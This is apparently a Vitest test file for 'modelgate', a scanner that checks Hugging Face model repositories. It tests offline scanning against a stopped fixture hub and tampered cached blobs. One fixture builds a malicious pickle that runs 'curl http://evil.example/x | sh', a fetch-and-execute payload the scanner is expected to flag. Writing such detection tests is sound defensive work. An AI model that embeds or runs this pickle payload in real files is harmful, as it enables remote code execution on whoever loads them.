import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../../src/core/report-types.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { runCliAsync } from '../helpers/cli.js';
import { gitBlobId } from '../helpers/fixture-hub.js';
import { HubProcess } from '../helpers/hub-process.js';
import { osSystemPickle } from '../helpers/pickles.js';
import { expectSameReport } from '../helpers/same-report.js';

let hub: HubProcess | undefined;
let endpoint = '';
let home: string;
let online: ScanResult;

/** The CLI as a child process; HF_ENDPOINT keeps pointing at the fixture hub once it has stopped. */
function run(args: string[], env: Record<string, string> = {}): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return runCliAsync(args, { env: { ...process.env, HF_ENDPOINT: endpoint, HF_HOME: home, HF_TOKEN: '', XDG_CONFIG_HOME: home, ...env } });
}

const config = Buffer.from('{"model_type": "llama"}');
const pickle = osSystemPickle('curl http://evil.example/x | sh');
const weights = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [16, 16] }] });

beforeAll(async () => {
  hub = await HubProcess.start();
  endpoint = hub.url;
  home = mkdtempSync(join(tmpdir(), 'mg-huboff-'));
  await hub.addSimpleRepo('acme/offline', [
    { path: 'config.json', content: config },
    { path: 'tokenizer_config.json', content: Buffer.from('{"model_max_length": 512}') },
    { path: 'README.md', content: Buffer.from('# offline\n') },
    { path: 'small.pkl', content: pickle, lfs: false },
    { path: 'model.safetensors', content: weights },
  ]);
  const r = await run(['scan', 'hf:acme/offline', '--full', '-f', 'json']);
  expect(r.status).toBe(1);
  online = JSON.parse(r.stdout) as ScanResult;
  // The Hub goes away: nothing answers on its port any more.
  await hub.close();
  hub = undefined;
});
afterAll(async () => {
  await hub?.close();
});

describe('HF_HUB_OFFLINE=1 modelgate scan hf: after an online scan (fixture hub stopped)', () => {
  it('gives the same report as the online --full scan', async () => {
    expect(online.files.find((f) => f.path === 'small.pkl')!.verdict).toBe('malicious');
    const r = await run(['scan', 'hf:acme/offline', '-f', 'json'], { HF_HUB_OFFLINE: '1' });
    expect(r.stderr).not.toMatch(/OFFLINE|not in the cache/);
    expect(r.status).toBe(1);
    const offline = JSON.parse(r.stdout) as ScanResult;
    expectSameReport(offline, online);
  });

  it('a cached small file changed after caching no longer matches its blob id: reported, not clean', async () => {
    const blob = join(home, 'modelgate', 'models--acme--offline', 'blobs', gitBlobId(config));
    expect(readFileSync(blob)).toEqual(config);
    writeFileSync(blob, '{"model_type": "llama", "auto_map": {"AutoModel": "x.Y"}}');
    const r = await run(['scan', 'hf:acme/offline', '-f', 'json'], { HF_HUB_OFFLINE: '1' });
    expect(r.status).toBe(1);
    const file = (JSON.parse(r.stdout) as ScanResult).files.find((f) => f.path === 'config.json')!;
    expect(file.verdict).toBe('malicious');
    expect(file.findings.find((f) => f.ruleId === 'repo/hash-mismatch')!.message).toContain(`${gitBlobId(config)}`);
  });
});
